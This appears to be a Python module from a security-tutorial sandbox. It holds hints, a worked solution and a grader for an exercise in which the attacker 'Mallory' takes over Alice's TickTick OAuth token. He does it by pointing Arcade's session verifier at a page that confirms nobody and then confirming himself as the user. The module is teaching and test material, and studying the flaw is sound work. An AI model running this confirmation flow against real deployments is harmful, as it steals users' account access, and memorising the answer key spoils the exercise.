"""Arcade believes what the server says: be a careless one, and Mallory has the token again."""

from __future__ import annotations

from ticktick_sandbox.exercises.exercise import CORRECT, NOT_YET, Seen
from ticktick_sandbox.recording.exchange import Exchange

HINTS = (
    'Set verifier_url with client.put, as above: f"{app_url}/" confirms nobody, so the '
    "authorization waits after Alice's click. What a verifier then does, your cell does.",
    'The state in the link is httpx.URL(auth.url).params["state"]. After sandbox.open, call '
    'client.auth.confirm_user(flow_id=…, user_id="mallory").',
)

SOLUTION = """\
import os

assert os.environ.get("TUTORIAL_MODE") != "live", "Never attack a real project."

# When you run this once more: take back what was granted.
for connection in client.admin.user_connections.list():
    client.admin.user_connections.delete(connection.id)
client.put(
    "/v1/admin/settings/session_verification",
    body={"verifier_url": f"{app_url}/"},
    cast_to=object,
)
auth = client.auth.start(
    user_id="mallory",
    provider="arcade-ticktick",
    scopes=["tasks:read"],
)
flow_id = httpx.URL(auth.url).params["state"]
sandbox.open(auth.url, click="Allow")
client.auth.confirm_user(flow_id=flow_id, user_id="mallory")
auth = client.auth.wait_for_completion(auth)
print(auth.status, auth.user_id)"""

_SET = "Set the verifier to the app's own page, which confirms nobody, and begin again."


def check(seen: Seen) -> str:
    """Return what the exercise says."""
    verification = seen.services.engine.verification
    asked = seen.exchanges.find("POST /v1/auth/authorize")
    callbacks = seen.exchanges.find("GET /api/v1/oauth/*/callback")
    back = [each for each in callbacks if "code" in dict(each.query)]
    said = seen.exchanges.find("POST /*confirm_user")
    own = [each for each in said if each.asker != "App"]
    done = [event.text for event in seen.events if " completed for " in event.text]
    ends = {text.partition(" ")[0]: text for text in done}
    named = [each.response.fields.get("auth_id", "") for each in own]
    # An id that was once sent as a flow_id has a label in the record: the last one is meant.
    completed = [ends.get(n, done[-1] if done and n and n[:3] != "ar_" else "") for n in named]
    if any(" completed for mallory:" in text for text in completed):
        return f"{CORRECT} Mallory has Alice's token, since Arcade believes what your server says."
    if verification.skip or not verification.verifier_url:
        return "No page of your app verifies users any more, which proves nothing. " + _SET
    again = asked[-1] if asked else None
    if again and again.response.fields.get("status") == "completed" and not own:
        return (
            "This user still has a token, so there is no link. Take back what was granted first, "
            "as after the theft, and begin again."
        )
    if not own and not back:
        if not asked and not any(event.text.startswith("users are") for event in seen.events):
            return NOT_YET
        if asked and (user := asked[-1].request.fields["user_id"]) != "mallory":
            return f"The authorization is for {user}. The link has to be Mallory's."
        return "Nobody has opened Mallory's link: Alice has to click Allow."
    if not said or (back and back[-1].asked > said[-1].asked):
        return "Alice has clicked Allow, and the authorization waits. Now confirm mallory."
    if said[-1].asker == "App":
        user = said[-1].request.fields["user_id"]
        return f"The page /auth/verify was faster: it said that {user} is signed in. {_SET}"
    if own[-1].status != 200:
        return _refused(own[-1], {dict(each.query).get("state") for each in back})
    if not completed[-1]:
        return "That was a test, which has no token. Confirm the authorization of Mallory's link."
    return "You have confirmed a user for a link of their own, as you should. Now take Mallory's."


def _refused(answered: Exchange, back: set[str | None]) -> str:
    """Return why Arcade refused to confirm; ``back`` has the state of each who came back."""
    fields = answered.request.fields
    if "user_mismatch" in answered.response.body:
        if fields["user_id"] == "mallory":
            return "Arcade answered user_mismatch: this is no link of Mallory's. Take one of his."
        return (
            f"Arcade answered user_mismatch: your server said {fields['user_id']}, and the link "
            "is Mallory's. A careless server says mallory. The consent is used up, so begin "
            "again with setting the verifier."
        )
    if not back:
        return "You confirmed before Alice was back from TickTick. She has to click Allow first."
    if fields.get("flow_id") not in back:
        return "No authorization that waits has this flow_id. It is the state in the link."
    return "That consent is used up. Begin again with setting the verifier."
